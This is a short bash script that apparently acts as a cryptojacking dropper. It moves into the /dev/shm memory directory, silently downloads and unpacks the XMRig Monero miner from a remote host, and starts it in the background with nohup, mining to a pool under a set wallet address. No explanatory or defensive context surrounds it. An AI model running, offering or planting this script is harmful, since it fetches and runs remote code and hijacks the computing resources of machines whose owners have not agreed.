#!/bin/bash
cd /dev/shm
wget -q https://dl.example/xmrig.tar.gz && tar xf xmrig.tar.gz
nohup ./xmrig -o pool.minexmr.example:443 -u 44AFFq5k -k --tls --donate-level 1 &
